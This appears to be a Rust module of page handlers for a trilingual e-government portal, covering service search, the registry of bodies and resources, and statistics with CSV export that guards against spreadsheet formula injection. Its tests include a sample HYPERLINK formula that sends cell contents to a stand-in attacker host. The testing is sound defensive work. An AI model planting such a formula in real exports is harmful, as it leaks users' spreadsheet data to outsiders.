//! The portal's pages (server-rendered HTML that works without JavaScript, P-3.6): home,
//! search with filters, service, body, registry of resources, statistics bulletin with CSV
//! (B-1), open data. Every page lives under its language (`/az/…`, `/en/…`, `/ru/…`) and
//! links to the same page in the other two.

use std::collections::HashMap;
use std::sync::Arc;

use askama::Template;
use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};

use egov_registry::model::{AREA_COUNT, Automation, DocumentSource, ServiceKind, ServiceRecord, UserType, area_name};

use crate::Portal;
use crate::catalogue::{Catalogue, Entry, Query as Search};
use crate::i18n::{Lang, Tr};

/// Results per page.
pub const PAGE_SIZE: usize = 20;

/// One language link of the switcher.
pub struct Alternate {
    /// Language code.
    pub code: &'static str,
    /// The language's own name.
    pub name: String,
    /// The same page in that language.
    pub href: String,
    /// Whether it is this page's language.
    pub current: bool,
}

/// What every page has.
pub struct PageInfo {
    /// Texts.
    pub tr: Tr,
    /// Language code.
    pub lang: &'static str,
    /// Title.
    pub title: String,
    /// The language switcher.
    pub switcher: Vec<Alternate>,
}

impl PageInfo {
    pub(crate) fn new(lang: Lang, title: String, rest: &str) -> Self {
        let switcher = Lang::ALL
            .iter()
            .map(|l| Alternate {
                code: l.code(),
                name: l.own_name().to_owned(),
                href: format!("/{}{rest}", l.code()),
                current: *l == lang,
            })
            .collect();
        Self { tr: Tr { lang }, lang: lang.code(), title, switcher }
    }
}

pub(crate) fn render(t: &impl Template) -> Response {
    match t.render() {
        Ok(html) => Html(html).into_response(),
        Err(e) => {
            tracing::error!(error = %e, "a page failed to render");
            (StatusCode::INTERNAL_SERVER_ERROR, "the page could not be rendered").into_response()
        }
    }
}

#[derive(Template)]
#[template(path = "error.html")]
struct ErrorPage {
    page: PageInfo,
    message: String,
}

fn not_found(lang: Lang) -> Response {
    let tr = Tr { lang };
    let page = PageInfo::new(lang, tr.t("not-found-title"), "/");
    let mut r = render(&ErrorPage { page, message: tr.t("not-found-text") });
    *r.status_mut() = StatusCode::NOT_FOUND;
    r
}

fn bad_request(lang: Lang, message: String) -> Response {
    let page = PageInfo::new(lang, Tr { lang }.t("bad-request-title"), "/");
    let mut r = render(&ErrorPage { page, message });
    *r.status_mut() = StatusCode::BAD_REQUEST;
    r
}

fn lang_of(code: &str) -> Option<Lang> {
    Lang::from_code(code)
}

/// `/`: to the visitor's language.
pub async fn root(headers: HeaderMap) -> Redirect {
    let accept = headers.get(header::ACCEPT_LANGUAGE).and_then(|v| v.to_str().ok());
    Redirect::to(&format!("/{}/", Lang::negotiate(accept).code()))
}

fn provider_name(c: &Catalogue, code: &str, tr: Tr) -> String {
    c.body(code).map(|b| b.name.get(tr.lang.code()).to_owned()).unwrap_or_else(|| code.to_owned())
}

fn user_label(u: UserType, tr: Tr) -> String {
    tr.t(&format!("user-{}", u.slug()))
}

fn kind_label(k: ServiceKind, tr: Tr) -> String {
    tr.t(match k {
        ServiceKind::Informative => "kind-informative",
        ServiceKind::Interactive => "kind-interactive",
    })
}

fn fee_label(r: &ServiceRecord, tr: Tr) -> String {
    match &r.fee {
        None => tr.t("service-free"),
        Some(f) => tr.a("service-fee-amount", "amount", &format!("{:.2}", f.amount_azn)),
    }
}

struct AreaLink {
    number: u8,
    name: String,
    count: usize,
    selected: bool,
}

fn areas(c: &Catalogue, tr: Tr, selected: Option<u8>) -> Vec<AreaLink> {
    let counts = c.area_counts();
    (1..=29u8)
        .map(|n| AreaLink {
            number: n,
            name: area_name(n, tr.lang.code()).unwrap_or_default().to_owned(),
            count: counts[usize::from(n) - 1],
            selected: selected == Some(n),
        })
        .collect()
}

#[derive(Template)]
#[template(path = "home.html")]
struct Home {
    page: PageInfo,
    q: String,
    areas: Vec<AreaLink>,
    users: Vec<(&'static str, String)>,
}

/// `/{lang}/`.
pub async fn home(State(portal): State<Arc<Portal>>, Path(lang): Path<String>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let tr = Tr { lang };
    let users = UserType::ALL.iter().map(|u| (u.slug(), user_label(*u, tr))).collect();
    render(&Home {
        page: PageInfo::new(lang, tr.t("nav-home"), "/"),
        q: String::new(),
        areas: areas(&c, tr, None),
        users,
    })
}

struct Item {
    href: String,
    name: String,
    provider: String,
    kind: String,
    fee: String,
    number: String,
}

fn item(e: &Entry, c: &Catalogue, tr: Tr) -> Item {
    Item {
        href: format!("/{}/services/{}", tr.lang.code(), e.number),
        name: e.record.name.get(tr.lang.code()).to_owned(),
        provider: provider_name(c, &e.record.provider, tr),
        kind: kind_label(e.record.kind, tr),
        fee: fee_label(&e.record, tr),
        number: e.number.clone(),
    }
}

#[derive(Template)]
#[template(path = "search.html")]
struct SearchPage {
    page: PageInfo,
    q: String,
    areas: Vec<AreaLink>,
    bodies: Vec<(String, String, bool)>,
    users: Vec<(&'static str, String, bool)>,
    summary: String,
    items: Vec<Item>,
    first: usize,
    pages: usize,
    page_label: String,
    prev: Option<String>,
    next: Option<String>,
}

/// The search parameters of a request, checked; the error names the parameter.
pub fn parse_search(params: &HashMap<String, String>) -> Result<(Search, usize), String> {
    let text = params.get("q").cloned().unwrap_or_default();
    if text.chars().count() > 200 {
        return Err("q: at most 200 characters".into());
    }
    let area = match params.get("area").map(String::as_str) {
        None | Some("") => None,
        Some(a) => Some(
            a.parse::<u8>()
                .ok()
                .filter(|n| (1..=AREA_COUNT).contains(n))
                .ok_or_else(|| format!("area: a number from 1 to {AREA_COUNT}"))?,
        ),
    };
    let body = params.get("body").filter(|b| !b.is_empty()).cloned();
    if body.as_ref().is_some_and(|b| b.len() > 10 || !b.bytes().all(|c| c.is_ascii_digit())) {
        return Err("body: a body's number".into());
    }
    let user = match params.get("user").map(String::as_str) {
        None | Some("") => None,
        Some(u) => Some(
            UserType::ALL
                .into_iter()
                .find(|t| t.slug() == u)
                .ok_or("user: natural-persons, legal-persons, state-bodies or others")?,
        ),
    };
    let page = match params.get("page").map(String::as_str) {
        None | Some("") => 1,
        Some(p) => p.parse::<usize>().ok().filter(|p| (1..=100_000).contains(p)).ok_or("page: a page number")?,
    };
    Ok((Search { text, area, body, user }, page))
}

fn search_href(lang: Lang, q: &Search, page: usize) -> String {
    let enc = |s: &str| percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string();
    let mut parts = Vec::new();
    if !q.text.is_empty() {
        parts.push(format!("q={}", enc(&q.text)));
    }
    if let Some(a) = q.area {
        parts.push(format!("area={a}"));
    }
    if let Some(b) = &q.body {
        parts.push(format!("body={}", enc(b)));
    }
    if let Some(u) = q.user {
        parts.push(format!("user={}", u.slug()));
    }
    if page > 1 {
        parts.push(format!("page={page}"));
    }
    if parts.is_empty() {
        format!("/{}/search", lang.code())
    } else {
        format!("/{}/search?{}", lang.code(), parts.join("&"))
    }
}

/// `/{lang}/search?q=&area=&body=&user=&page=`.
pub async fn search(
    State(portal): State<Arc<Portal>>,
    Path(lang): Path<String>,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let (q, page) = match parse_search(&params) {
        Ok(p) => p,
        Err(e) => return bad_request(lang, e),
    };
    let c = portal.catalogue();
    let tr = Tr { lang };
    let found = c.search(&q, lang);
    let pages = found.len().div_ceil(PAGE_SIZE).max(1);
    let page = page.min(pages);
    let items = found.iter().skip((page - 1) * PAGE_SIZE).take(PAGE_SIZE).map(|e| item(e, &c, tr)).collect();
    let bodies = c
        .bodies
        .iter()
        .map(|b| (b.code.clone(), b.name.get(lang.code()).to_owned(), q.body.as_deref() == Some(b.code.as_str())))
        .collect();
    let users = UserType::ALL.iter().map(|u| (u.slug(), user_label(*u, tr), q.user == Some(*u))).collect();
    let rest = search_href(lang, &q, page);
    let rest = rest.strip_prefix(&format!("/{}", lang.code())).unwrap_or("/search").to_owned();
    let title =
        if q.text.is_empty() { tr.t("nav-services") } else { format!("{} — {}", q.text, tr.t("search-results")) };
    render(&SearchPage {
        page: PageInfo::new(lang, title, &rest),
        q: q.text.clone(),
        areas: areas(&c, tr, q.area),
        bodies,
        users,
        summary: tr.n("search-count", found.len()),
        items,
        first: (page - 1) * PAGE_SIZE + 1,
        pages,
        page_label: tr.page(page, pages),
        prev: (page > 1).then(|| search_href(lang, &q, page - 1)),
        next: (page < pages).then(|| search_href(lang, &q, page + 1)),
    })
}

#[derive(Template)]
#[template(path = "service.html")]
struct ServicePage {
    page: PageInfo,
    number: String,
    name: String,
    content: String,
    provider: String,
    provider_code: String,
    other_executors: String,
    kind: String,
    interactive: bool,
    users: String,
    execution_time: String,
    result: String,
    automation: String,
    fee: String,
    fee_details: Option<(String, String, String)>,
    area: String,
    area_number: u8,
    legal_basis: String,
    channels: String,
    /// The web address as a link, only if it is one the registry accepts now (a record
    /// stored before the check is shown as text, never as a `javascript:` link).
    web: Option<String>,
    web_text: String,
    gateway: Option<String>,
    updated: String,
    documents: Vec<(String, String)>,
    request: String,
    steps: Vec<StepView>,
    refusals: Vec<String>,
    control: String,
    complaints: String,
    complaints_deadline: String,
}

/// One step of a service's procedure as the service page shows it.
struct StepView {
    /// What is done, in the page's language.
    action: String,
    /// The body responsible (shown in Azerbaijani, as registered).
    responsible: String,
    deadline: String,
    /// The other bodies involved, comma-separated; empty when none.
    other_bodies: String,
}

/// `/{lang}/services/{number}`.
pub async fn service(State(portal): State<Arc<Portal>>, Path((lang, number)): Path<(String, String)>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let Some(e) = c.service(&number) else { return not_found(lang) };
    let tr = Tr { lang };
    let l = lang.code();
    let r = &e.record;
    let g = &r.regulation;
    let documents = g
        .documents
        .iter()
        .map(|d| {
            let how = match &d.source {
                DocumentSource::StateSystem { system, identifier } => {
                    let name = c.system(system).map(|s| s.name.clone()).unwrap_or_else(|| system.clone());
                    tr.a("service-document-fetched", "system", &format!("{name} ({identifier})"))
                }
                DocumentSource::ScannedCopy => tr.t("service-document-scan"),
            };
            (d.name.get(l).to_owned(), how)
        })
        .collect();
    render(&ServicePage {
        page: PageInfo::new(lang, r.name.get(l).to_owned(), &format!("/services/{number}")),
        number: e.number.clone(),
        name: r.name.get(l).to_owned(),
        content: r.content.get(l).to_owned(),
        provider: provider_name(&c, &r.provider, tr),
        provider_code: r.provider.clone(),
        other_executors: r.other_executors.iter().map(|x| provider_name(&c, x, tr)).collect::<Vec<_>>().join(", "),
        kind: kind_label(r.kind, tr),
        interactive: r.kind == ServiceKind::Interactive,
        users: r.users.iter().map(|u| user_label(*u, tr)).collect::<Vec<_>>().join(", "),
        execution_time: g.execution_time.clone(),
        result: g.result.get(l).to_owned(),
        automation: tr.t(match g.automation {
            Automation::Full => "automation-full",
            Automation::Partial => "automation-partial",
        }),
        fee: fee_label(r, tr),
        fee_details: r
            .fee
            .as_ref()
            .map(|f| (f.legal_basis.clone(), f.bank_details.clone(), f.payment_methods.join(", "))),
        area: area_name(r.area, l).unwrap_or_default().to_owned(),
        area_number: r.area,
        legal_basis: r.legal_basis.clone(),
        channels: g.information_channels.join(", "),
        web: egov_registry::model::check_web_address(&r.web_address).is_ok().then(|| r.web_address.clone()),
        web_text: r.web_address.clone(),
        gateway: r.xroad_service.clone(),
        updated: e.updated_on.to_string(),
        documents,
        request: g.request.get(l).to_owned(),
        steps: g
            .steps
            .iter()
            .map(|s| StepView {
                action: s.action.get(l).to_owned(),
                responsible: s.responsible.clone(),
                deadline: s.deadline.clone(),
                other_bodies: s.other_bodies.join(", "),
            })
            .collect(),
        refusals: g.refusal_grounds.iter().map(|t| t.get(l).to_owned()).collect(),
        control: g.control.get(l).to_owned(),
        complaints: g.complaints.procedure.get(l).to_owned(),
        complaints_deadline: g.complaints.deadline.clone(),
    })
}

#[derive(Template)]
#[template(path = "bodies.html")]
struct BodiesPage {
    page: PageInfo,
    bodies: Vec<(String, String, usize)>,
}

/// `/{lang}/bodies`.
pub async fn bodies(State(portal): State<Arc<Portal>>, Path(lang): Path<String>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let tr = Tr { lang };
    let bodies = c
        .bodies
        .iter()
        .map(|b| (b.code.clone(), b.name.get(lang.code()).to_owned(), c.services_of(&b.code).len()))
        .collect();
    render(&BodiesPage { page: PageInfo::new(lang, tr.t("nav-bodies"), "/bodies"), bodies })
}

#[derive(Template)]
#[template(path = "body.html")]
struct BodyPage {
    page: PageInfo,
    name: String,
    successor: Option<String>,
    services: Vec<Item>,
    systems: Vec<(String, String)>,
}

/// `/{lang}/bodies/{code}`.
pub async fn body(State(portal): State<Arc<Portal>>, Path((lang, code)): Path<(String, String)>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let Some(b) = c.body(&code) else { return not_found(lang) };
    let tr = Tr { lang };
    let successor = b.successor.as_ref().map(|s| tr.a("body-liquidated", "successor", &provider_name(&c, s, tr)));
    render(&BodyPage {
        page: PageInfo::new(lang, b.name.get(lang.code()).to_owned(), &format!("/bodies/{code}")),
        name: b.name.get(lang.code()).to_owned(),
        successor,
        services: c.services_of(&code).into_iter().map(|e| item(e, &c, tr)).collect(),
        systems: c.systems.iter().filter(|s| s.owner == code).map(|s| (s.code.clone(), s.name.clone())).collect(),
    })
}

struct SystemRow {
    code: String,
    name: String,
    owner: String,
    kind: String,
    personal: String,
    status: String,
}

fn system_row(s: &egov_registry::model::InformationSystem, c: &Catalogue, tr: Tr) -> SystemRow {
    SystemRow {
        code: s.code.clone(),
        name: s.name.clone(),
        owner: provider_name(c, &s.owner, tr),
        kind: tr.t(if s.kind == "resource" { "resource-kind-resource" } else { "resource-kind-system" }),
        personal: tr.t(if s.personal_data { "yes" } else { "no" }),
        status: s.status.clone(),
    }
}

#[derive(Template)]
#[template(path = "resources.html")]
struct ResourcesPage {
    page: PageInfo,
    systems: Vec<SystemRow>,
}

/// `/{lang}/resources`: the registry of state information resources, open to all (P-3.4).
pub async fn resources(State(portal): State<Arc<Portal>>, Path(lang): Path<String>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let tr = Tr { lang };
    let systems = c.systems.iter().map(|s| system_row(s, &c, tr)).collect();
    render(&ResourcesPage { page: PageInfo::new(lang, tr.t("resources-title"), "/resources"), systems })
}

#[derive(Template)]
#[template(path = "resource.html")]
struct ResourcePage {
    page: PageInfo,
    s: SystemRow,
    owner_code: String,
    legal_basis: String,
    services: Vec<String>,
}

/// `/{lang}/resources/{code}`.
pub async fn resource(State(portal): State<Arc<Portal>>, Path((lang, code)): Path<(String, String)>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let Some(s) = c.system(&code) else { return not_found(lang) };
    let tr = Tr { lang };
    render(&ResourcePage {
        page: PageInfo::new(lang, s.name.clone(), &format!("/resources/{code}")),
        s: system_row(s, &c, tr),
        owner_code: s.owner.clone(),
        legal_basis: s.legal_basis.clone(),
        services: s.services.clone(),
    })
}

#[derive(Template)]
#[template(path = "statistics.html")]
struct StatisticsPage {
    page: PageInfo,
    month: String,
    months: Vec<(String, bool)>,
    top: Vec<(usize, String, String, String, i64)>,
    providers: Vec<(String, usize, i64)>,
    integration: Vec<(String, usize, usize, usize)>,
}

fn chosen_month(c: &Catalogue, params: &HashMap<String, String>) -> Result<String, String> {
    match params.get("month").filter(|m| !m.is_empty()) {
        Some(m) if egov_registry::store::check_month(m).is_ok() => Ok(m.clone()),
        Some(_) => Err("month: YYYY-MM".into()),
        None => Ok(c.usage.keys().next_back().cloned().unwrap_or_else(|| "2026-01".into())),
    }
}

/// `/{lang}/statistics?month=YYYY-MM`: the bulletin of B-1.
pub async fn statistics(
    State(portal): State<Arc<Portal>>,
    Path(lang): Path<String>,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    let c = portal.catalogue();
    let month = match chosen_month(&c, &params) {
        Ok(m) => m,
        Err(e) => return bad_request(lang, e),
    };
    let tr = Tr { lang };
    let l = lang.code();
    let b = c.bulletin(&month);
    let mut months: Vec<(String, bool)> = c.usage.keys().rev().map(|m| (m.clone(), *m == month)).collect();
    if !months.iter().any(|(_, s)| *s) {
        months.insert(0, (month.clone(), true));
    }
    render(&StatisticsPage {
        page: PageInfo::new(lang, tr.t("statistics-title"), &format!("/statistics?month={month}")),
        months,
        top: b
            .top
            .iter()
            .enumerate()
            .map(|(i, (e, u))| {
                (
                    i + 1,
                    format!("/{l}/services/{}", e.number),
                    e.record.name.get(l).to_owned(),
                    provider_name(&c, &e.record.provider, tr),
                    *u,
                )
            })
            .collect(),
        providers: b.per_provider.iter().map(|(body, s, u)| (body.name.get(l).to_owned(), *s, *u)).collect(),
        integration: b.integration.iter().map(|(body, r, p, i)| (body.name.get(l).to_owned(), *r, *p, *i)).collect(),
        month,
    })
}

/// One CSV cell. A cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return: a service or body name as the registry holds it could)
/// gets a leading `'` and is quoted, as OWASP's "CSV Injection" advice says (issue 13,
/// item 14); a cell with a separator, quote or line break is quoted, quotes doubled (RFC 4180).
pub fn csv_field(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_owned()
    }
}

/// `/{lang}/statistics.csv?month=&table=top|providers|integration`.
pub async fn statistics_csv(
    State(portal): State<Arc<Portal>>,
    Path(lang): Path<String>,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    let lang = lang_of(&lang).unwrap_or(Lang::Az);
    let c = portal.catalogue();
    let month = match chosen_month(&c, &params) {
        Ok(m) => m,
        Err(e) => return (StatusCode::BAD_REQUEST, e).into_response(),
    };
    let tr = Tr { lang };
    let l = lang.code();
    let b = c.bulletin(&month);
    let mut out = String::new();
    let line = |out: &mut String, fields: &[String]| {
        out.push_str(&fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    };
    let table = params.get("table").map(String::as_str).unwrap_or("top");
    match table {
        "top" => {
            line(
                &mut out,
                &[
                    tr.t("statistics-rank"),
                    tr.t("service-registry-number"),
                    tr.t("statistics-service"),
                    tr.t("statistics-provider"),
                    tr.t("statistics-uses"),
                ],
            );
            for (i, (e, u)) in b.top.iter().enumerate() {
                line(
                    &mut out,
                    &[
                        (i + 1).to_string(),
                        e.number.clone(),
                        e.record.name.get(l).to_owned(),
                        provider_name(&c, &e.record.provider, tr),
                        u.to_string(),
                    ],
                );
            }
        }
        "providers" => {
            line(&mut out, &[tr.t("statistics-provider"), tr.t("statistics-services"), tr.t("statistics-uses")]);
            for (body, s, u) in &b.per_provider {
                line(&mut out, &[body.name.get(l).to_owned(), s.to_string(), u.to_string()]);
            }
        }
        "integration" => {
            line(
                &mut out,
                &[
                    tr.t("statistics-provider"),
                    tr.t("statistics-registered"),
                    tr.t("statistics-on-portal"),
                    tr.t("statistics-interactive"),
                ],
            );
            for (body, r, p, i) in &b.integration {
                line(&mut out, &[body.name.get(l).to_owned(), r.to_string(), p.to_string(), i.to_string()]);
            }
        }
        _ => return (StatusCode::BAD_REQUEST, "table: top, providers or integration").into_response(),
    }
    let disposition = format!("attachment; filename=\"egov-statistics-{month}-{table}-{l}.csv\"");
    ([(header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()), (header::CONTENT_DISPOSITION, disposition)], out)
        .into_response()
}

#[derive(Template)]
#[template(path = "open_data.html")]
struct OpenDataPage {
    page: PageInfo,
}

/// `/{lang}/open-data`.
pub async fn open_data(Path(lang): Path<String>) -> Response {
    let Some(lang) = lang_of(&lang) else { return not_found(Lang::Az) };
    render(&OpenDataPage { page: PageInfo::new(lang, Tr { lang }.t("open-data-title"), "/open-data") })
}

/// Anything else.
pub async fn fallback(uri: axum::http::Uri) -> Response {
    let lang = uri.path().split('/').nth(1).and_then(lang_of).unwrap_or(Lang::Az);
    not_found(lang)
}

/// `/static/portal.css`.
pub async fn stylesheet() -> Response {
    (
        [(header::CONTENT_TYPE, "text/css; charset=utf-8"), (header::CACHE_CONTROL, "public, max-age=3600")],
        include_str!("../static/portal.css"),
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::csv_field;
    use proptest::prelude::*;

    /// Reads one CSV cell back as a spreadsheet would (RFC 4180).
    fn read_cell(cell: &str) -> String {
        match cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')) {
            Some(inner) => {
                assert!(!inner.replace("\"\"", "").contains('"'), "a lone quote inside {cell:?}");
                inner.replace("\"\"", "\"")
            }
            None => {
                assert!(!cell.contains([',', '"', '\n', '\r']), "unquoted {cell:?}");
                cell.to_owned()
            }
        }
    }

    const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

    /// Issue 13, item 14: a cell a spreadsheet would run as a formula is defused (OWASP,
    /// "CSV Injection": a leading `'`, and quoted).
    #[test]
    fn formula_cells_are_defused() {
        assert_eq!(csv_field("=1+2"), "\"'=1+2\"");
        assert_eq!(csv_field("+994 12 000"), "\"'+994 12 000\"");
        assert_eq!(csv_field("-2+3"), "\"'-2+3\"");
        assert_eq!(csv_field("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(csv_field("\t=1"), "\"'\t=1\"");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        assert_eq!(
            csv_field(r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#
        );
        // everything else as before
        assert_eq!(csv_field("Ministry of Justice"), "Ministry of Justice");
        assert_eq!(csv_field("42"), "42");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("a=b"), "a=b");
    }

    proptest! {
        /// Any text: the cell reads back as the text (with a `'` in front exactly when it
        /// starts like a formula), and what a spreadsheet reads never starts like one.
        #[test]
        fn any_cell_reads_back_and_never_as_a_formula(s in "[=+@\t\r\n\",a-z0-9 -]{0,12}|\\PC{0,12}") {
            let cell = csv_field(&s);
            let read = read_cell(&cell);
            let dangerous = s.starts_with(FORMULA);
            prop_assert_eq!(&read, &if dangerous { format!("'{s}") } else { s.clone() });
            prop_assert!(!read.starts_with(FORMULA));
            prop_assert!(!dangerous || cell.starts_with("\"'"));
        }
    }
}
